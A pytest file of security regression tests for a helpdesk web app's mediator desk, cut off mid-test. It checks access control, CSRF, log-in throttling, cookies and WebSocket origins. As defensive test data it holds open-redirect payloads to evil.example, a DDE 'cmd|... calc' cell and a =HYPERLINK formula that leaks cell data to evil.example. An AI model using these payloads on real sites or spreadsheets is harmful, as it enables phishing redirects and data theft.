"""Issue 17, the desk's side, tried as an attacker would: each test failed before the fix.

The web app runs in-process (aiohttp's test client) on a fresh data folder:
no Rasa, no action server. The attackers: a curious mediator, someone who
sends a mediator a link, someone guessing a password, another site's page
opening the desk's sockets, a question written as a spreadsheet formula, and
a flood of fake emergencies.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import hashlib
import json
import os
import re
import secrets
import time
from datetime import timedelta

import pytest
import sqlalchemy as sa
from aiohttp import WSServerHandshakeError
from aiohttp.test_utils import TestClient, TestServer

from connectors.desk import __main__ as cli
from connectors.desk import app as desk
from connectors.desk.auth import hash_password, verify_password
from connectors.desk.connector import DeskConnector
from connectors.desk.dashboard import spreadsheet_safe
from connectors.desk.store import Store, attachments, messages, now
from connectors.identity import SessionSigner
from connectors.web import create_app
from core.typing_signal import Throttle
from knowledge.settings import load_settings
from tests.conftest import free_port
from tests.test_attachments import png_with_text

PASSWORD = "a-long-test-password"
USERS = {
    "amal": ("mediator", "ar fr it"),
    "bilal": ("mediator", "ar it"),
    "olena": ("mediator", "uk it"),
    "olga": ("operator", "it"),
    "ada": ("admin", "it"),
}
# Hashed once: Argon2id is slow on purpose.
PASSWORD_HASH = hash_password(PASSWORD)
# The widget's socket.io sessions are signed with it (connectors.identity).
SESSION_SECRET = "test-session-secret-for-the-widget"
VICTIM = "whatsapp:+393331234567"
_CSRF_FIELD = re.compile(r'name="csrf" value="([^"]+)"')


def _settings(tmp_path, **extra: str):
    # Where the shared taxonomy and models are, as the rest of the suite is told.
    shared = {
        k: v for k, v in os.environ.items() if k in ("HELPDESK_TAXONOMY", "HELPDESK_MODELS_DIR")
    }
    return load_settings(
        environ={
            **shared,
            "HELPDESK_DATA_DIR": str(tmp_path / "data"),
            "HELPDESK_DESK_HOURS": "always",
            "HELPDESK_RASA_URL": f"http://127.0.0.1:{free_port()}",
            "HELPDESK_ACTION_SERVER_URL": f"http://127.0.0.1:{free_port()}",
            "HELPDESK_SESSION_SECRET": SESSION_SECRET,
            **extra,
        }
    )


@pytest.fixture
def settings(tmp_path):
    return _settings(tmp_path)


@pytest.fixture
def store(settings) -> Store:
    store = Store.open(settings.desk.database_url)
    for username, (role, languages) in USERS.items():
        store.add_user(username, PASSWORD_HASH, role, languages)
    return store


@contextlib.asynccontextmanager
async def clients_of(settings):
    """new_client() -> a new client (its own cookies) of one running web app."""
    server = TestServer(create_app(settings))
    clients: list[TestClient] = []

    async def new_client() -> TestClient:
        client = TestClient(server)
        await client.start_server()
        clients.append(client)
        return client

    try:
        yield new_client
    finally:
        for client in clients:
            await client.close()


@pytest.fixture
async def site(settings, store):
    """site() -> a new client (its own cookies) of one running web app."""
    async with clients_of(settings) as new_client:
        yield new_client


async def login(
    client: TestClient, username: str, password: str = PASSWORD, next: str = "", **headers: str
) -> object:
    html = await (await client.get("/login")).text()
    token = _CSRF_FIELD.search(html).group(1)
    form = {"username": username, "password": password, "csrf": token, "next": next}
    if client.app[desk.DESK_SETTINGS_KEY].desk.behind_proxy:
        # The client's jar keeps Secure cookies for https only: send it by hand.
        headers["Cookie"] = f"__Host-helpdesk_login_csrf={token}"
    return await client.post("/login", data=form, allow_redirects=False, headers=headers)


async def logged_in(site, username: str) -> TestClient:
    client = await site()
    assert (await login(client, username)).status == 303
    return client


def open_handoff(store: Store, sender: str, language: str = "ar", urgent: bool = False, at=None):
    with store.transaction() as db:
        return store.open_handoff(
            db,
            sender_id=sender,
            channel="socketio",
            language=language,
            topic="residence_permit",
            reason="emergency" if urgent else "request",
            urgent=urgent,
            at=at,
        )


def say(store: Store, sender: str, handoff_id: int | None, text: str, author="migrant") -> None:
    with store.transaction() as db:
        store.add_message(db, sender_id=sender, handoff_id=handoff_id, author=author, text=text)


# -- 1. desk authorization ------------------------------------------------------------------


async def test_a_mediator_cannot_read_a_handoff_claimed_by_another(site, store):
    # Written before the hand-off (as the old desk kept it): never part of a transcript.
    say(store, VICTIM, None, "my husband reads my phone")
    handoff_id = open_handoff(store, VICTIM)
    say(store, VICTIM, handoff_id, "I need to talk to someone")
    say(store, VICTIM, handoff_id, "A mediator will answer soon.", author="bot")
    amal, bilal, ada = [await logged_in(site, name) for name in ("amal", "bilal", "ada")]
    assert store.claim(handoff_id, store.credentials("amal")[0].id)

    response = await bilal.get(f"/desk/api/handoffs/{handoff_id}")
    assert response.status == 403
    assert "my husband" not in await response.text()

    for reader in (amal, ada):
        response = await reader.get(f"/desk/api/handoffs/{handoff_id}")
        assert response.status == 200
        shown = await response.json()
        assert [m["text"] for m in shown["transcript"]] == [
            "I need to talk to someone",
            "A mediator will answer soon.",
        ]
        assert VICTIM not in await response.text() and "sender_id" not in json.dumps(shown)

    # Who looked is on record, for admins only (page API and CLI).
    response = await ada.get(f"/desk/api/views?handoff={handoff_id}")
    assert response.status == 200
    viewers = [view["username"] for view in (await response.json())["views"]]
    assert sorted(viewers) == ["ada", "amal"]
    assert (await amal.get("/desk/api/views")).status == 403
    assert [v["username"] for v in store.views(handoff_id)] == viewers


async def test_a_waiting_handoff_shows_only_a_redacted_preview(site, store):
    handoff_id = open_handoff(store, VICTIM)
    say(store, VICTIM, handoff_id, "call me on +39 333 123 4567 please")
    say(store, VICTIM, handoff_id, "second line")
    say(store, VICTIM, handoff_id, "third line")
    say(store, VICTIM, handoff_id, "fourth line, not in the preview")
    amal = await logged_in(site, "amal")

    response = await amal.get(f"/desk/api/handoffs/{handoff_id}")
    assert response.status == 200
    shown = await response.json()
    assert shown["transcript"] is None
    assert shown["preview"] == ["call me on [phone] please", "second line", "third line"]
    queue = await (await amal.get("/desk/api/queue")).json()
    assert queue["handoffs"][0]["preview"] == shown["preview"]
    for body in (shown, queue):
        assert VICTIM not in json.dumps(body) and "sender_id" not in json.dumps(body)
    # A preview is not a transcript view.
    assert store.views(handoff_id) == []


async def test_the_queue_holds_only_the_mediators_languages(site, store):
    arabic = open_handoff(store, "p-ar", language="ar")
    ukrainian = open_handoff(store, "p-uk", language="uk")
    # No mediator speaks Tamil: everyone sees it (with machine translation), none is lost.
    tamil = open_handoff(store, "p-ta", language="ta")
    amal, olena, ada = [await logged_in(site, name) for name in ("amal", "olena", "ada")]

    seen = [h["id"] for h in (await (await amal.get("/desk/api/queue")).json())["handoffs"]]
    assert seen == [arabic, tamil]
    assert (await amal.get(f"/desk/api/handoffs/{ukrainian}")).status == 403
    seen = [h["id"] for h in (await (await olena.get("/desk/api/queue")).json())["handoffs"]]
    assert seen == [ukrainian, tamil]
    seen = [h["id"] for h in (await (await ada.get("/desk/api/queue")).json())["handoffs"]]
    assert seen == [arabic, ukrainian, tamil]


def _event(sender: str, kind: str, **fields) -> dict:
    return {"sender_id": sender, "event": kind, "timestamp": now().timestamp(), **fields}


def test_the_desk_keeps_no_conversation_that_never_reached_a_handoff(settings):
    connector = DeskConnector(settings)
    request = {"reason": "request", "language": "it", "channel": "socketio"}
    events = [
        _event("never", "user", text="dove rinnovo il permesso?"),
        _event("never", "bot", text="In questura."),
        _event("never", "slot", name="answer_record", value={"question": "dove?"}),
        _event("asks", "user", text="una domanda di prima"),
        _event("asks", "bot", text="Una risposta di prima."),
        _event("asks", "user", text="voglio parlare con una persona"),
        _event("asks", "bot", text="Ti metto in contatto con un mediatore."),
        _event("asks", "slot", name="handoff_request", value=request),
        _event("asks", "user", text="ci siete?"),
    ]
    connector._apply(list(enumerate(events, 1)), move_cursor=False)
    with connector.store.engine.connect() as db:
        kept = db.execute(messages.select().order_by(messages.c.id)).all()
    assert [(m.sender_id, m.author, m.text) for m in kept] == [
        ("asks", "migrant", "voglio parlare con una persona"),
        ("asks", "bot", "Ti metto in contatto con un mediatore."),
        ("asks", "migrant", "ci siete?"),
    ]
    assert all(m.handoff_id is not None for m in kept)
    # The dashboard still counts the question of the conversation without a hand-off.
    from connectors.desk.figures import Figures

    figures = Figures.compute(connector.store, now() - timedelta(days=1), now() + timedelta(1))
    assert figures.questions == 1 and figures.handoffs == 1


def test_admins_forget_a_person_by_the_handoff_number(monkeypatch, tmp_path, capsys):
    monkeypatch.setenv("HELPDESK_DATA_DIR", str(tmp_path))
    cli.get_settings.cache_clear()
    try:
        store = Store.open(f"sqlite:///{tmp_path / 'desk.db'}")
        handoff_id = open_handoff(store, VICTIM)
        say(store, VICTIM, handoff_id, "please delete me")
        other = open_handoff(store, "someone-else")
        cli.main(["forget", "--handoff", str(handoff_id)])
        out = capsys.readouterr().out
        assert f"hand-off {handoff_id}" in out and VICTIM not in out
        assert store.handoff(handoff_id) is None and store.transcript(VICTIM) == []
        assert store.handoff(other) is not None
        with pytest.raises(SystemExit, match="No hand-off 999"):
            cli.main(["forget", "--handoff", "999"])
    finally:
        cli.get_settings.cache_clear()


# -- 2. no open redirect after log-in ------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "/\\evil.example/x",  # the review's request
        "\\evil.example/x",
        "/\\/evil.example",
        "//evil.example/x",
        "https://evil.example/x",
        "/%5cevil.example/x",
        "/%5Cevil.example/x",
        "/%2f%2fevil.example",
        "/%2F/evil.example",
        "/%255cevil.example",
        "/\t/evil.example",
        "/%09/evil.example",
        "/desk\r\nLocation: https://evil.example",
        "javascript:alert(1)",
    ],
)
async def test_next_after_login_stays_on_this_site(site, target):
    client = await site()
    response = await login(client, "amal", next=target)
    assert response.status == 303
    assert response.headers["Location"] == "/desk"


async def test_next_after_login_keeps_a_path_of_this_site(site):
    client = await site()
    response = await login(client, "ada", next="/desk?x=1")
    assert response.headers["Location"] == "/desk"


# -- 3. log-in throttling --------------------------------------------------------------------


async def test_twelve_wrong_passwords_then_the_right_one_gets_429(site):
    client = await site()
    statuses = [(await login(client, "amal", "wrong-password-x")).status for _ in range(12)]
    assert statuses == [401] * 10 + [429] * 2
    response = await login(client, "amal")
    assert response.status == 429
    assert response.headers["Retry-After"] == "900"
    page = await response.text()
    # No Accept-Language and no choice yet: the page is in Italian, the desk's default.
    assert "Troppi accessi errati" in page and "15 minuti" in page
    assert not any("helpdesk_session" in c for c in response.headers.getall("Set-Cookie", []))


async def test_failures_from_one_address_lock_that_address_not_the_user(tmp_path):
    settings = _settings(tmp_path, HELPDESK_BEHIND_PROXY="true")
    store = Store.open(settings.desk.database_url)
    store.add_user("amal", PASSWORD_HASH, "mediator", "ar")
    async with TestClient(TestServer(create_app(settings))) as client:
        guesser = {"X-Real-IP": "203.0.113.9"}
        for n in range(10):
            assert (await login(client, f"user{n}", "x" * 12, **guesser)).status == 401
        assert (await login(client, "amal", **guesser)).status == 429
        # The same user from another address: not locked (they never failed).
        other = {"X-Real-IP": "198.51.100.7"}
        assert (await login(client, "amal", **other)).status == 303


# -- 4. passwords ----------------------------------------------------------------------------


def _old_scrypt_hash(password: str) -> str:
    salt = secrets.token_bytes(16)
    digest = hashlib.scrypt(password.encode(), salt=salt, n=2**14, r=8, p=1)
    b64 = lambda data: base64.b64encode(data).decode()  # noqa: E731
    return f"scrypt${2**14}$8$1${b64(salt)}${b64(digest)}"


def test_passwords_are_argon2id():
    stored = hash_password("correct horse battery")
    assert stored.startswith("$argon2id$") and "correct" not in stored
    assert verify_password("correct horse battery", stored)
    assert not verify_password("correct horse batterY", stored)
    assert not verify_password("anything", "not-a-hash")


async def test_an_old_scrypt_hash_logs_in_and_is_rehashed(site, store):
    old = _old_scrypt_hash("an-old-password-1")
    store.add_user("oldie", old, "mediator", "it")
    client = await site()
    assert (await login(client, "oldie", "not-the-password")).status == 401
    assert store.credentials("oldie")[1] == old
    assert (await login(client, "oldie", "an-old-password-1")).status == 303
    stored = store.credentials("oldie")[1]
    assert stored.startswith("$argon2id$") and verify_password("an-old-password-1", stored)
    # And it still logs in with the new hash.
    assert (await login(await site(), "oldie", "an-old-password-1")).status == 303


def test_hashing_is_bounded(settings):
    app = create_app(settings)
    assert app[desk.HASHING_KEY]._value == desk.HASHING_AT_ONCE <= 2


# -- 5. live sockets ---------------------------------------------------------------------------


async def test_desk_sockets_refuse_another_sites_page(site):
    ada, olga = await logged_in(site, "ada"), await logged_in(site, "olga")
    for client, path in ((ada, "/desk/ws"), (olga, "/assist/ws")):
        with pytest.raises(WSServerHandshakeError) as refused:
            await client.ws_connect(path, headers={"Origin": "http://evil.example"})
        assert refused.value.status == 403
        here = f"http://{client.host}:{client.port}"
        socket = await client.ws_connect(path, headers={"Origin": here})
        await socket.close()


async def test_operators_get_notices_only_about_what_they_opened(site, store, settings):
    olga = await logged_in(site, "olga")
    olga_id = store.credentials("olga")[0].id
    theirs = open_handoff(store, "counter-1", language="it")
    with store.transaction() as db:
        db.execute(
            store_handoffs()
            .update()
            .where(store_handoffs().c.id == theirs)
            .values(opened_by=olga_id)
        )
    others = open_handoff(store, VICTIM, language="it")
    socket = await olga.ws_connect("/assist/ws")
    connector = olga.app[desk.CONNECTOR_KEY]
    await connector.notify({"type": "message", "handoff_id": others})
    await connector.notify({"type": "queue"})
    await connector.notify({"type": "message", "handoff_id": theirs})
    got = await socket.receive_json(timeout=5)
    assert got == {"type": "message", "handoff_id": theirs}
    await socket.close()


def store_handoffs():
    from connectors.desk.store import handoffs

    return handoffs


async def test_pages_may_connect_only_to_their_own_site(site):
    client = await site()
    policy = (await client.get("/login")).headers["Content-Security-Policy"]
    assert "connect-src 'self';" in policy and "ws:" not in policy


# -- 6. CSV formula injection ------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_look_like_formulas_are_plain_text(start):
    assert spreadsheet_safe(start + "cmd|' /C calc'!A0") == "'" + start + "cmd|' /C calc'!A0"
    assert spreadsheet_safe("permesso " + start) == "permesso " + start


async def test_dashboard_csv_neutralises_a_formula_question(site, store):
    attack = '=HYPERLINK("https://evil.example/?leak="&A1,"open report")'
    with store.transaction() as db:
        for n in range(4):
            store.add_question(
                db,
                sender_id=f"csv-{n}",
                asked_at=now(),
                source="conversation",
                language="en",
                confident=False,
                text=attack,
            )
    ada = await logged_in(site, "ada")
    response = await ada.get("/dashboard.csv")
    assert response.status == 200
    csv_text = await response.text()
    assert "'=hyperlink" in csv_text and ',"=hyperlink' not in csv_text


# -- 7. a flood of urgent hand-offs -----------------------------------------------------------


def test_a_burst_of_urgent_handoffs_is_grouped_and_flagged(store):
    start = now() - timedelta(minutes=30)
    real = open_handoff(store, "real-person", urgent=True, at=start)
    flood = [
        open_handoff(
            store, f"flood-{n}", urgent=True, at=start + timedelta(minutes=10, seconds=9 * n)
        )
        for n in range(14)
    ]
    later = open_handoff(store, "real-later", urgent=True, at=start + timedelta(minutes=25))
    calm = open_handoff(store, "calm", at=start + timedelta(minutes=1))

    queue = store.queue()
    assert [h["id"] for h in queue] == [real, later, *flood, calm]
    assert queue[0]["flood"] is None and queue[1]["flood"] is None and queue[-1]["flood"] is None
    notes = {h["flood"]["text"] for h in queue[2:-1]}
    assert notes == {"possible flood: 14 urgent requests in 2 minutes"}


def test_a_few_urgent_handoffs_close_together_are_not_a_flood(store):
    start = now() - timedelta(minutes=5)
    ids = [
        open_handoff(store, f"u-{n}", urgent=True, at=start + timedelta(seconds=n))
        for n in range(5)
    ]
    assert [h["id"] for h in store.queue()] == ids
    assert all(h["flood"] is None for h in store.queue())


# -- 9. cookies over HTTPS ---------------------------------------------------------------------


async def test_cookies_are_secure_with_the_host_prefix_behind_the_proxy(tmp_path):
    settings = _settings(tmp_path, HELPDESK_BEHIND_PROXY="true")
    Store.open(settings.desk.database_url).add_user("amal", PASSWORD_HASH, "mediator", "ar")
    async with TestClient(TestServer(create_app(settings))) as client:
        page = await client.get("/login")
        login_cookie = page.headers["Set-Cookie"]
        assert login_cookie.startswith("__Host-helpdesk_login_csrf=") and "Secure" in login_cookie
        token = _CSRF_FIELD.search(await page.text()).group(1)
        response = await client.post(
            "/login",
            data={"username": "amal", "password": PASSWORD, "csrf": token, "next": ""},
            headers={"Cookie": f"__Host-helpdesk_login_csrf={token}"},
            allow_redirects=False,
        )
        assert response.status == 303
        cookies = response.headers.getall("Set-Cookie")
        session = next(c for c in cookies if c.startswith("__Host-helpdesk_session="))
        assert "Secure" in session and "HttpOnly" in session and "Path=/" in session
        assert "SameSite=Strict" in session and "Domain" not in session


async def test_cookies_on_plain_localhost_are_not_secure(site):
    client = await site()
    response = await login(client, "amal")
    session = next(
        c for c in response.headers.getall("Set-Cookie") if c.startswith("helpdesk_session=")
    )
    assert "Secure" not in session and "HttpOnly" in session


# -- handing a conversation on: release and transfer ------------------------------------

_CSRF_META = re.compile(r'<meta name="csrf-token" content="([^"]+)"')


async def post_as(client: TestClient, path: str, body: dict | None = None, csrf: str | None = ""):
    """POST JSON with the CSRF token of the client's desk page (csrf=None: without one)."""
    headers = {}
    if csrf is not None:
        page = await (await client.get("/desk")).text()
        found = _CSRF_META.search(page)
        headers["X-CSRF-Token"] = csrf or (found.group(1) if found else "")
    return await client.post(path, json=body or {}, headers=headers)


async def test_only_the_holder_or_an_admin_hands_a_conversation_on(site, store):
    handoff_id = open_handoff(store, VICTIM)
    say(store, VICTIM, handoff_id, "I need to talk to someone")
    amal, bilal, olga, ada = [
        await logged_in(site, name) for name in ("amal", "bilal", "olga", "ada")
    ]
    assert (await post_as(amal, f"/desk/api/handoffs/{handoff_id}/claim")).status == 200
    release = f"/desk/api/handoffs/{handoff_id}/release"
    transfer = f"/desk/api/handoffs/{handoff_id}/transfer"

    # Forged: another mediator, no CSRF token, a wrong token, the operator's role.
    assert (await post_as(bilal, release)).status == 409
    assert (await post_as(bilal, transfer, {"to": "bilal"})).status == 409
    assert (await bilal.get(f"/desk/api/handoffs/{handoff_id}/colleagues")).status == 409
    assert (await post_as(amal, release, csrf=None)).status == 403
    assert (await post_as(amal, transfer, {"to": "bilal"}, csrf="forged")).status == 403
    assert (await post_as(olga, release)).status == 403
    assert store.handoff(handoff_id)["mediator_name"] == "amal"

    # Only to a mediator who works in the person's language: not olena (uk), not an
    # operator or admin, not someone unknown.
    colleagues = await (await amal.get(f"/desk/api/handoffs/{handoff_id}/colleagues")).json()
    assert colleagues == {"colleagues": ["bilal"]}
    for name in ("olena", "olga", "ada", "nobody", "amal"):
        assert (await post_as(amal, transfer, {"to": name})).status == 400, name

    # Transferred: in bilal's queue as his (he need not be logged in), no longer amal's.
    assert (await post_as(amal, transfer, {"to": "bilal"})).status == 200
    handoff = store.handoff(handoff_id)
    assert (handoff["status"], handoff["mediator_name"]) == ("claimed", "bilal")
    assert (await amal.get(f"/desk/api/handoffs/{handoff_id}")).status == 403
    queue = (await (await bilal.get("/desk/api/queue")).json())["handoffs"]
    assert [(h["id"], h["mediator_name"]) for h in queue] == [(handoff_id, "bilal")]
    shown = await (await bilal.get(f"/desk/api/handoffs/{handoff_id}")).json()
    assert [(m["author"], m["text"]) for m in shown["transcript"]] == [
        ("migrant", "I need to talk to someone"),
        ("desk", "Transferred from amal to bilal."),
    ]
    # Nothing of it is sent to the person: no reply waits to be delivered.
    assert store.mediator_replies(VICTIM) == [] and store.pending_deliveries() == []
    assert (await post_as(amal, release)).status == 409

    # An admin may put it back in the queue; any Arabic mediator may claim it again.
    assert (await post_as(ada, release)).status == 200
    handoff = store.handoff(handoff_id)
    assert (handoff["status"], handoff["mediator_id"]) == ("waiting", None)
    assert store.handoff_transcript(handoff_id)[-1]["text"] == "Put back in the queue by ada."
    waiting = await bilal.get(f"/desk/api/handoffs/{handoff_id}")
    assert waiting.status == 200 and (await waiting.json())["transcript"] is None
    assert (await post_as(amal, f"/desk/api/handoffs/{handoff_id}/claim")).status == 200
    assert store.handoff(handoff_id)["mediator_name"] == "amal"


async def test_private_notes_reach_only_those_who_hold_the_handoff(site, store):
    handoff_id = open_handoff(store, VICTIM)
    say(store, VICTIM, handoff_id, "I need to talk to someone")
    amal, bilal, olga, ada = [await logged_in(site, n) for n in ("amal", "bilal", "olga", "ada")]
    notes = f"/desk/api/handoffs/{handoff_id}/notes"
    secret = "Afraid of her husband: do not call the number on file"
    # Nobody holds it yet: no notes.
    assert (await post_as(amal, notes, {"text": secret})).status == 409
    assert (await post_as(amal, f"/desk/api/handoffs/{handoff_id}/claim")).status == 200

    # Forged: another mediator, no CSRF token, an operator, empty and overlong notes.
    assert (await post_as(bilal, notes, {"text": "x"})).status == 409
    assert (await post_as(amal, notes, {"text": secret}, csrf=None)).status == 403
    assert (await post_as(olga, notes, {"text": "x"})).status == 403
    assert (await post_as(amal, notes, {"text": "  "})).status == 400
    assert (await post_as(amal, notes, {"text": "x" * 2001})).status == 400
    assert (await post_as(amal, notes, {"text": secret})).status == 201

    shown = await (await amal.get(f"/desk/api/handoffs/{handoff_id}")).json()
    assert [(n["author_name"], n["text"]) for n in shown["notes"]] == [("amal", secret)]
    assert secret not in json.dumps(shown["transcript"])
    for outsider in (bilal, olga):
        response = await outsider.get(f"/desk/api/handoffs/{handoff_id}")
        assert response.status == 403 and secret not in await response.text()
    assert secret in json.dumps(await (await ada.get(f"/desk/api/handoffs/{handoff_id}")).json())
    # Never sent to the person: not a reply to deliver, not in what their channel
    # fetches after being away (/desk/api/history reads mediator_replies).
    assert store.mediator_replies(VICTIM) == [] and store.pending_deliveries() == []

    # Transferred: the colleague now holding it reads the notes; amal no longer does.
    assert (
        await post_as(amal, f"/desk/api/handoffs/{handoff_id}/transfer", {"to": "bilal"})
    ).status == 200
    shown = await (await bilal.get(f"/desk/api/handoffs/{handoff_id}")).json()
    assert [n["text"] for n in shown["notes"]] == [secret]
    assert (await amal.get(f"/desk/api/handoffs/{handoff_id}")).status == 403


async def test_closed_conversations_are_read_again_only_by_their_mediator(site, store):
    amal, bilal, olga, ada = [await logged_in(site, n) for n in ("amal", "bilal", "olga", "ada")]
    ids = {}
    for sender, client in (("p-amal", amal), ("p-bilal", bilal)):
        ids[sender] = open_handoff(store, sender)
        say(store, sender, ids[sender], f"words of {sender}")
        assert (await post_as(client, f"/desk/api/handoffs/{ids[sender]}/claim")).status == 200
        close = f"/desk/api/handoffs/{ids[sender]}/close"
        assert (await post_as(client, close, {"note": "ok"})).status == 200

    listed = await (await amal.get("/desk/api/closed")).json()
    assert [h["id"] for h in listed["handoffs"]] == [ids["p-amal"]]
    assert "sender_id" not in json.dumps(listed) and "p-amal" not in json.dumps(listed)
    shown = await (await amal.get(f"/desk/api/handoffs/{ids['p-amal']}")).json()
    assert [m["text"] for m in shown["transcript"]] == ["words of p-amal"]
    # Another mediator's closed conversation: not listed, not readable.
    response = await amal.get(f"/desk/api/handoffs/{ids['p-bilal']}")
    assert response.status == 403 and "words of" not in await response.text()
    # Read only: nothing more can be written to it.
    for path, body in (("reply", {"text": "hello"}), ("notes", {"text": "x"}), ("release", {})):
        response = await post_as(amal, f"/desk/api/handoffs/{ids['p-amal']}/{path}", body)
        assert response.status == 409, path
    # Admins: everyone's, as they may read any transcript; operators: none.
    listed = await (await ada.get("/desk/api/closed")).json()
    assert sorted(h["id"] for h in listed["handoffs"]) == sorted(ids.values())
    assert (await olga.get("/desk/api/closed")).status == 403
    # Filters; a wrong day is refused.
    today = now().date().isoformat()
    for query, expected in (
        ("language=ar", [ids["p-amal"]]),
        ("language=uk", []),
        (f"from={today}&to={today}", [ids["p-amal"]]),
        ("to=2020-01-01", []),
    ):
        listed = await (await amal.get(f"/desk/api/closed?{query}")).json()
        assert [h["id"] for h in listed["handoffs"]] == expected, query
    assert (await amal.get("/desk/api/closed?from=yesterday")).status == 400


# -- the staff pages' language switch ----------------------------------------------------------


async def test_the_language_switch_needs_the_token_and_a_known_language(site, store):
    amal = await logged_in(site, "amal")
    page = await (await amal.get("/desk")).text()
    csrf = _CSRF_META.search(page).group(1)
    amal_id = store.credentials("amal")[0].id

    async def switch(client, **form):
        return await client.post("/page-language", data=form, allow_redirects=False)

    assert (await switch(amal, language="en", next="/desk")).status == 403  # no token
    assert (await switch(amal, language="en", csrf="forged", next="/desk")).status == 403
    refused = await switch(amal, language="de", csrf=csrf, next="/desk")
    assert refused.status == 400 and "it, en" in await refused.text()
    assert store.page_language(amal_id) is None
    chosen = await switch(amal, language="en", csrf=csrf, next="//evil.example/desk")
    assert chosen.status == 303 and chosen.headers["Location"] == "/desk"  # never elsewhere
    assert store.page_language(amal_id) == "en"
    assert 'lang="en"' in await (await amal.get("/desk")).text()
    # Before log-in: the log-in form's token, and only a cookie is kept.
    anonymous = await site()
    assert (await switch(anonymous, language="en", next="/login")).status == 403
    html = await (await anonymous.get("/login")).text()
    token = _CSRF_FIELD.search(html).group(1)
    kept = await switch(anonymous, language="en", csrf=token, next="/login")
    assert kept.status == 303 and "helpdesk_page_language=en" in kept.headers["Set-Cookie"]
    assert ">Log in</button>" in await (await anonymous.get("/login")).text()


# -- typing signals ------------------------------------------------------------------------------


RASA_TOKEN = "rasa-secret"


@pytest.fixture
async def rasa_site(tmp_path):
    """site() and the store of a web app that Rasa's channels may call (its token set)."""
    settings = _settings(tmp_path, HELPDESK_RASA_TOKEN=RASA_TOKEN)
    store = Store.open(settings.desk.database_url)
    for username, (role, languages) in USERS.items():
        store.add_user(username, PASSWORD_HASH, role, languages)
    async with clients_of(settings) as new_client:
        yield new_client, store


def as_rasa(token: str = RASA_TOKEN) -> dict:
    return {"Authorization": f"Bearer {token}"}


async def test_typing_reaches_only_the_holder_and_only_the_holder_signals_it(rasa_site):
    """The person's "typing" goes to their mediator's desk alone (not a colleague in
    the same language, not an admin); the mediator's goes to the person, throttled,
    and no one else may send it. Neither carries text."""
    new_client, store = rasa_site
    amal, bilal, ada = [await logged_in(new_client, n) for n in ("amal", "bilal", "ada")]
    handoff_id = open_handoff(store, VICTIM)
    connector = amal.app[desk.CONNECTOR_KEY]
    sent: list[tuple[str, dict]] = []

    async def recorded(sender_id: str, message: dict, tag: dict, channel: str = "") -> None:
        sent.append((sender_id, message))

    connector.rasa.send = recorded
    here = f"http://{amal.host}:{amal.port}"
    sockets = [await c.ws_connect("/desk/ws", headers={"Origin": here}) for c in (amal, bilal, ada)]

    async def person_typing(token: str = RASA_TOKEN) -> object:
        body = {"sender_id": VICTIM}
        return await amal.post("/desk/api/typing", json=body, headers=as_rasa(token))

    # Waiting: nobody holds it, nobody is told.
    answer = await person_typing()
    assert answer.status == 200 and await answer.json() == {"told": False}
    assert (await person_typing("wrong")).status == 401
    assert (await post_as(amal, f"/desk/api/handoffs/{handoff_id}/claim")).status == 200
    for socket in sockets:  # the claim's queue notice
        assert (await socket.receive_json(timeout=5))["type"] == "queue"
    assert await (await person_typing()).json() == {"told": True}
    await connector.notify({"type": "queue"})
    got = [await socket.receive_json(timeout=5) for socket in sockets]
    assert got[0] == {"type": "typing", "handoff_id": handoff_id}
    assert got[1] == got[2] == {"type": "queue"}

    typing = f"/desk/api/handoffs/{handoff_id}/typing"
    assert (await post_as(bilal, typing)).status == 409
    assert (await post_as(ada, typing)).status == 409
    assert (await post_as(amal, typing, csrf=None)).status == 403
    assert await (await post_as(amal, typing)).json() == {"sent": True}
    assert await (await post_as(amal, typing)).json() == {"sent": False}  # within 3 s
    await asyncio.sleep(0.1)
    assert sent[-1] == (VICTIM, {"from": "desk", "event": "typing"})
    assert [m["event"] for _, m in sent] == ["joined", "typing"]
    for socket in sockets:
        await socket.close()


async def test_a_mediator_who_joined_is_fetched_again_with_the_same_id(rasa_site):
    """The page was closed at the claim: history brings "<name> joined" back, in
    order among the replies, with the id the live notice had; not before `since`."""
    new_client, store = rasa_site
    sender = "socketio:away-session"
    with store.transaction() as db:
        handoff_id = store.open_handoff(
            db,
            sender_id=sender,
            channel="socketio",
            language="ar",
            topic=None,
            reason="request",
            urgent=False,
        )
    amal = await logged_in(new_client, "amal")
    connector = amal.app[desk.CONNECTOR_KEY]
    sent: list[dict] = []

    async def recorded(sender_id: str, message: dict, tag: dict, channel: str = "") -> None:
        sent.append(message)

    connector.rasa.send = recorded
    asked = time.time() - 1  # the last bot message the page showed
    assert (await post_as(amal, f"/desk/api/handoffs/{handoff_id}/claim")).status == 200
    status = await post_as(amal, f"/desk/api/handoffs/{handoff_id}/reply", {"text": "مرحبا"})
    assert status.status == 201
    await asyncio.sleep(0.1)
    live = next(m for m in sent if m.get("event") == "joined")
    assert live["name"] == "amal" and live["id"].startswith(f"j{handoff_id}.")

    async def history(since) -> list[dict]:
        body = {"sender_id": sender, "after": 0, "since": since}
        answer = await amal.post("/desk/api/history", json=body, headers=as_rasa())
        assert answer.status == 200
        return (await answer.json())["messages"]

    found = await history(asked)
    assert [m["from"] for m in found] == ["desk", "mediator"]
    assert found[0] == live
    # Shown after the claim, or a transcript from before ids (null): not again.
    assert [m["from"] for m in await history(time.time() + 1)] == ["mediator"]
    assert [m["from"] for m in await history(None)] == ["mediator"]
    assert (await amal.post("/desk/api/history", json={"sender_id": sender})).status == 401


def test_the_typing_throttle_lets_one_signal_through_every_few_seconds():
    throttle = Throttle(every=3.0, size=2)
    assert throttle.allow("a", at=100.0)
    assert not throttle.allow("a", at=102.9)
    assert throttle.allow("b", at=102.9)
    assert throttle.allow("a", at=103.0)
    # Only the newest keys are remembered: memory stays bounded.
    assert throttle.allow("c", at=103.1) and throttle.allow("b", at=103.2)


async def test_saved_replies_are_changed_only_in_ones_own_languages(site, store):
    amal, olena, olga, ada = [await logged_in(site, n) for n in ("amal", "olena", "olga", "ada")]
    anonymous = await site()
    saved = "/desk/api/saved-replies"
    arabic = "أحضر جواز سفرك والإيصال إلى الكويستورا يوم الاثنين"
    assert (await post_as(amal, saved, {"language": "ar", "text": arabic})).status == 201
    (reply,) = (await (await amal.get(f"{saved}?language=ar")).json())["replies"]
    one = f"{saved}/{reply['id']}"

    # Another mediator's languages (olena: uk, it), an operator, nobody logged in,
    # no or a forged CSRF token: refused, nothing changed.
    assert (await post_as(olena, saved, {"language": "ar", "text": "x"})).status == 403
